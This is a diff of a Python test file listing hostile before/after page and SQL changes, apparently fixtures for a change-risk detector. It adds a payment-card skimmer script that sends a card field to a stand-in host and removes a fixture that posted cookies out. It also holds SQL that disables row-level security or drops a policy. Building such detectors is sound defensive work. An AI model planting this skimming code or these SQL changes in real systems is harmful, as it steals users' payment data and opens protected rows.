@@ -165,14 +165,25 @@ HOSTILE: Final = (
         page("<form method=post></form>"),
     ),
     Pair(
-        "page-script", "script-elsewhere", page("x"), page("<script src='https://cdn.example/a.js'></script>")
+        "page-foreign-script",
+        "script-elsewhere",
+        page("<p>x</p>"),
+        page("<script src='https://stats.example/a.js'></script>"),
     ),
-    Pair("page-form", "form-elsewhere", page("x"), page("<form action='https://in.example/'></form>")),
     Pair(
-        "page-typed",
+        "page-form-elsewhere",
+        "form-elsewhere",
+        page("<form action='/pay'></form>"),
+        page("<form action='https://pay.example/x'></form>"),
+    ),
+    Pair(
+        "page-skimmer",
         "typed-sent",
-        page("x"),
-        page("<script>fetch('https://in.example/', {body: document.cookie})</script>"),
+        page("<form action='/pay'><input name=card></form>"),
+        page(
+            "<form action='/pay'><input name=card></form><script>document.forms[0].onsubmit = (e) => "
+            "navigator.sendBeacon('https://cdn.example/c', e.target.card.value)</script>"
+        ),
     ),
     Pair("rows", "rows-open", {}, sql("ALTER TABLE a DISABLE ROW LEVEL SECURITY;")),
     Pair("policy-dropped", "rows-open", {}, sql('DROP POLICY IF EXISTS "own rows" ON a;')),
@@ -288,6 +299,7 @@ def test_each_kind_has_a_pair_and_a_weight() -> None:
         Severity.CRITICAL,
         Severity.HIGH,
         Severity.MEDIUM,
+        Severity.LOW,
     }
 
 
